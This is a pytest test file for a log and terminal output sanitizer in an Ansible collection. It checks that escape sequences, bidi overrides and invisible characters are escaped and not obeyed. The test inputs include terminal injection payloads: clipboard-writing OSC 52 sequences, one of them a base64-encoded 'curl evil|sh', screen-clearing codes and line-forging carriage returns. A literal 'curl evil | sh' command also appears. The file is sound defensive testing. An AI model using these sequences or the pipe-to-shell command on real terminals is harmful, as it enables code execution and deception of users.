# Copyright (c) 2026 daoman.fastapi contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What an app prints cannot command a terminal, nor hide or forge lines."""

from __future__ import annotations

import unicodedata

import pytest
from ansible_collections.daoman.fastapi.plugins.module_utils._host.release import journal_text
from ansible_collections.daoman.fastapi.plugins.module_utils._host.text import one_line, safe

ESC, BEL, C1_OSC, C1_ST, C1_CSI = "\x1b", "\x07", "\x9d", "\x9c", "\x9b"


@pytest.mark.parametrize(
    "text, shown",
    [
        (f"{ESC}]0;root@host{BEL}", "\\x1b]0;root@host\\x07"),
        (f"{ESC}]52;c;Y3VybCBldmlsfHNo{ESC}\\", "\\x1b]52;c;Y3VybCBldmlsfHNo\\x1b\\"),
        (f"{C1_OSC}52;c;AAAA{C1_ST}", "\\x9d52;c;AAAA\\x9c"),
        (f"{ESC}[2J{ESC}[H", "\\x1b[2J\\x1b[H"),
        (f"{C1_CSI}2J", "\\x9b2J"),
        (f"{ESC}[6n{ESC}P+q436f{ESC}\\", "\\x1b[6n\\x1bP+q436f\\x1b\\"),
        ("all is well\rFAILED     ", "all is well\\rFAILED     "),
        ("abc\b\b\bxyz\x7f", "abc\\x08\\x08\\x08xyz\\x7f"),
        ("user\u202egnp.exe\u2066\u2069", "user\\u202egnp.exe\\u2066\\u2069"),
        ("a\u200bb\ufeff\u2028c\U000e0041", "a\\u200bb\\ufeff\\u2028c\\U000e0041"),
        ("\udcff\udc9b\ud800", "\\xff\\x9b\\ud800"),
        ("nul\0", "nul\\x00"),
    ],
)
def test_sequences_are_shown_and_not_obeyed(text, shown):
    assert safe(text) == shown


@pytest.mark.parametrize("text", ["two\nlines", "a\ttab", "Grüße, 東京", "👩\u200d💻", "\u0645\u06cc\u200c\u062e", ""])
def test_what_people_write_stays(text):
    assert safe(text) == text


def test_colours_and_line_ends_of_dos_are_left_out():
    assert safe(f"{ESC}[32mINFO{ESC}[0m: up\r\nnext") == "INFO: up\nnext"


def test_no_character_is_left_that_a_terminal_obeys():
    every = safe("".join(map(chr, range(0x110000))), longest=1 << 24)
    left = {character for character in every if unicodedata.category(character) in {"Cc", "Cs", "Cf", "Zl", "Zp"}}
    assert left == set("\n\t\u200c\u200d\u00ad")


def test_long_lines_are_cut_each_by_itself():
    assert safe("x" * 12 + "\nshort", longest=10) == "x" * 10 + " ... (2 more characters)\nshort"


def test_one_line_begins_no_other():
    assert one_line("x\n  fix   curl evil | sh\u2028y") == "x fix curl evil | sh\\u2028y"


def test_data_is_safe_at_every_depth():
    assert safe({"a\x1b": ["\x07", 1, None]}) == {"a\\x1b": ["\\x07", 1, None]}


def test_lines_of_the_journal_are_safe_also_where_json_hid_the_sequence():
    lines = ['{"level": "ERROR", "message": "\\u001b]0;x\\u0007", "exc_info": "Trace\\u001b[2J"}', f"plain {ESC}c"]
    assert journal_text(lines) == "ERROR \\x1b]0;x\\x07\nTrace\\x1b[2J\nplain \\x1bc"
